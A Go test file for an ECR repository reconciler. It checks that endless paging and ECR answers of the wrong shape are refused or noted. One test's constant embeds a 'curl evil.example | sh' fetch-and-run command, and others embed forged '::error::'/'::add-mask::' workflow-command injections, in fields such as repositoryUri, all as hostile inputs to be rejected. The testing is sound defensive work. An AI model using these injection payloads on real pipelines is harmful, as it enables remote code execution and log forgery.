package reconcile_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ecr-reconcile/ecr-reconcile/internal/reconcile"
	"github.com/ecr-reconcile/ecr-reconcile/internal/support/emulator"
)

// answerWith answers the operation op itself with answer (a JSON body, status
// 200) and lets the emulator answer every other call: an endpoint that
// behaves like ECR except where it does not.
func answerWith(op string, answer func(n int) string) func(http.Handler) http.Handler {
	var calls atomic.Int64
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !strings.HasSuffix(r.Header.Get("X-Amz-Target"), "."+op) {
				next.ServeHTTP(w, r)
				return
			}
			w.Header().Set("Content-Type", "application/x-amz-json-1.1")
			_, _ = w.Write([]byte(answer(int(calls.Add(1)))))
		})
	}
}

// An endpoint that pages DescribeRepositoryCreationTemplates forever,
// repeating its token or inventing a new one each page, does not keep the
// repository from being reconciled: the check is a note, the writes happen.
func TestEndlessTemplatePagesDoNotStarveTheWrites(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name  string
		token func(n int) string
		note  string
	}{
		{"repeated token", func(int) string { return "same" }, "nextToken of an earlier page again"},
		{"alternating tokens", func(n int) string { return fmt.Sprint(n % 2) }, "nextToken of an earlier page again"},
		{"new token each page", func(n int) string { time.Sleep(5 * time.Millisecond); return fmt.Sprint(n) }, "within its share of the"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newFixtureWrapped(t, emulator.Options{}, answerWith("DescribeRepositoryCreationTemplates", func(n int) string {
				return fmt.Sprintf(`{"registryId":%q,"repositoryCreationTemplates":[],"nextToken":%q}`, account, tc.token(n))
			}))
			ctx, cancel := context.WithTimeout(context.Background(), 4*time.Second)
			defer cancel()
			spec := fullSpec("team/app")
			res, err := f.reconciler(false).Reconcile(ctx, spec)
			if err != nil {
				t.Fatalf("Reconcile: %v", err)
			}
			if !res.Created {
				t.Errorf("the repository was not created: %+v", res)
			}
			if got := f.repo(t, "team/app"); got.Lifecycle == "" || got.Policy == "" {
				t.Errorf("the repository's writes did not all happen: %+v", got)
			}
			var note string
			for _, n := range res.Notes {
				if n.Setting == reconcile.SettingRepository && strings.Contains(n.Text, "not checked") {
					note = n.Text
				}
			}
			if !strings.Contains(note, tc.note) {
				t.Errorf("no note says the template check was not completed (%q); notes: %+v", tc.note, res.Notes)
			}
		})
	}
}

// rewriteAnswer lets the emulator answer op, then changes the answer's body with
// edit: an endpoint that answers like ECR except for one value.
func rewriteAnswer(op string, edit func(body string) string) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !strings.HasSuffix(r.Header.Get("X-Amz-Target"), "."+op) {
				next.ServeHTTP(w, r)
				return
			}
			rec := httptest.NewRecorder()
			next.ServeHTTP(rec, r)
			for k, v := range rec.Header() {
				w.Header()[k] = v
			}
			w.Header().Del("Content-Length")
			w.WriteHeader(rec.Code)
			_, _ = w.Write([]byte(edit(rec.Body.String())))
		})
	}
}

// setJSONField replaces the value of the JSON string field key ("key":"…")
// with value, JSON-encoded.
func setJSONField(key, value string) func(string) string {
	re := regexp.MustCompile(`"` + key + `":"[^"]*"`)
	enc, _ := json.Marshal(value)
	return func(body string) string { return re.ReplaceAllLiteralString(body, `"`+key+`":`+string(enc)) }
}

// An answer whose URI, ARN or registry ID does not have ECR's shape is
// refused with an error naming the call and the field, and quoting the
// value bounded and escaped: the URI is an output a later step puts in a
// shell command, and all three reach the log and the job summary.
func TestAnswersOfTheWrongShapeAreRefused(t *testing.T) {
	t.Parallel()
	const evil = "123456789012.dkr.ecr.us-east-1.amazonaws.com/team/app`\n::error::forged; curl evil.example | sh"
	long := strings.Repeat("9", 10_000)
	for _, tc := range []struct {
		name, op, key, value string
		exists               bool
		want                 string
	}{
		{"URI of an existing repository", "DescribeRepositories", "repositoryUri", evil, true, "ecr:DescribeRepositories answered a repositoryUri"},
		{"URI of another Region", "DescribeRepositories", "repositoryUri", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/app", true, "repositoryUri"},
		{"URI on another host", "DescribeRepositories", "repositoryUri", "123456789012.dkr.ecr.us-east-1.amazonaws.com.evil.example/team/app", true, "repositoryUri"},
		{"ARN of an existing repository", "DescribeRepositories", "repositoryArn", "arn:aws:ecr:us-east-1:123456789012:repository/team/app\nx", true, "repositoryArn"},
		{"registry ID of 10,000 digits", "DescribeRepositories", "registryId", long, true, "(10000 characters in all)"},
		{"URI of a created repository", "CreateRepository", "repositoryUri", evil, false, "ecr:CreateRepository answered a repositoryUri"},
		{"ARN of a created repository", "CreateRepository", "repositoryArn", "arn:aws-cn:ecr:us-east-1:123456789012:repository/team/app", false, "repositoryArn"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newFixtureWrapped(t, emulator.Options{}, rewriteAnswer(tc.op, setJSONField(tc.key, tc.value)))
			if tc.exists {
				f.emu.PutRepository(emulator.Repository{Name: "team/app"})
			}
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			res, err := f.reconciler(false).Reconcile(ctx, reconcile.Spec{Name: "team/app", Tags: map[string]string{"team": "core"}})
			if err == nil {
				t.Fatalf("the answer was used: %+v", res.Repository)
			}
			msg := err.Error()
			if !strings.Contains(msg, tc.want) || !strings.Contains(msg, "does not have the shape ECR documents") {
				t.Errorf("error %q does not say %q", msg, tc.want)
			}
			if strings.ContainsAny(msg, "\r\n") || len(msg) > 500 {
				t.Errorf("the error repeats the value raw or unbounded (%d bytes): %q", len(msg), msg)
			}
			if res != nil && res.Repository.URI != "" {
				t.Errorf("the result carries the refused repository: %+v", res.Repository)
			}
		})
	}
}

// In a batch, the repository whose answer has the wrong shape fails alone.
func TestBatchRefusesTheRepositoryOfTheWrongShape(t *testing.T) {
	t.Parallel()
	f := newFixtureWrapped(t, emulator.Options{}, rewriteAnswer("DescribeRepositories", func(body string) string {
		return strings.Replace(body, `amazonaws.com/team/bad"`, `amazonaws.com/team/bad\n::add-mask::x"`, 1)
	}))
	f.emu.PutRepository(emulator.Repository{Name: "team/bad"})
	f.emu.PutRepository(emulator.Repository{Name: "team/good"})
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	items := f.reconciler(false).ReconcileBatch(ctx, reconcile.Spec{Tags: map[string]string{"a": "b"}}, []string{"team/bad", "team/good"}, 2)
	for _, it := range items {
		bad := it.Name == "team/bad"
		if (it.Err != nil) != bad {
			t.Errorf("%s: error %v", it.Name, it.Err)
		}
		if bad && (it.Err == nil || !strings.Contains(it.Err.Error(), "repositoryUri")) {
			t.Errorf("%s: error %v does not name repositoryUri", it.Name, it.Err)
		}
		if bad && it.Result != nil && strings.Contains(it.Result.Repository.URI, "add-mask") {
			t.Errorf("%s: the refused URI is in the result", it.Name)
		}
	}
}

// A registry-level read whose registryId is no account ID is a note, and
// the repository is reconciled.
func TestRegistryIDOfTheWrongShapeIsANote(t *testing.T) {
	t.Parallel()
	f := newFixtureWrapped(t, emulator.Options{}, rewriteAnswer("DescribeRepositoryCreationTemplates", setJSONField("registryId", "1234`\n::error::x")))
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	res, err := f.reconciler(false).Reconcile(ctx, fullSpec("team/app"))
	if err != nil {
		t.Fatal(err)
	}
	var found bool
	for _, n := range res.Notes {
		found = found || (strings.Contains(n.Text, "not checked") && strings.Contains(n.Text, "registryId"))
		if strings.Contains(n.Text, "\n") {
			t.Errorf("a note holds the raw value: %q", n.Text)
		}
	}
	if !found || !res.Created {
		t.Errorf("created %v, notes %+v", res.Created, res.Notes)
	}
}

// A preview result whose action type is not one of the SDK's enum values
// does not reach the plan or the summary: the preview is replaced by a
// note naming the call and the field.
func TestPreviewActionTypeOfTheWrongShapeIsRefused(t *testing.T) {
	t.Parallel()
	f := newPreviewFixture(t, rewriteAnswer("GetLifecyclePolicyPreview", func(body string) string {
		return regexp.MustCompile(`"type":"EXPIRE"`).ReplaceAllLiteralString(body, `"type":"EXPIRE | x\n::error::forged"`)
	}))
	f.seed(t, "team/app", "", previewImages()...)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	res, err := f.previewer(true, reconcile.PreviewOn).Reconcile(ctx, reconcile.Spec{Name: "team/app", LifecyclePolicy: &reconcile.Document{Text: previewPolicy}})
	if err != nil {
		t.Fatal(err)
	}
	c := lifecycleChange(t, res)
	if c.Preview != nil {
		t.Errorf("the preview was used: %+v", c.Preview)
	}
	var found bool
	for _, n := range res.Notes {
		found = found || strings.Contains(n.Text, "ecr:GetLifecyclePolicyPreview answered a previewResults[].action.type")
	}
	if !found {
		t.Errorf("no note names the call and the field: %+v", res.Notes)
	}
}

// An endpoint that pages DescribeImages with a token it gave before would
// be counted forever: the image count of a force-delete fails at once,
// and nothing is deleted on a count that has no end.
func TestImageCountStopsOnARepeatedNextToken(t *testing.T) {
	t.Parallel()
	f := newFixtureWrapped(t, emulator.Options{}, answerWith("DescribeImages", func(n int) string {
		return fmt.Sprintf(`{"imageDetails":[{"imageDigest":"sha256:%064d"}],"nextToken":"%d"}`, n, n%2)
	}))
	f.emu.PutRepository(emulator.Repository{Name: "app"})
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	res, err := f.reconciler(false).Reconcile(ctx, reconcile.Spec{Name: "app", Absent: true, ForceDelete: true})
	if err == nil || !strings.Contains(err.Error(), "ecr:DescribeImages returned the nextToken of an earlier page again after 3 page(s)") {
		t.Errorf("Reconcile: %+v, %v; want the count refused for its repeated token", res, err)
	}
	if len(f.emu.Writes()) != 0 {
		t.Errorf("writes %v", f.emu.Writes())
	}
}
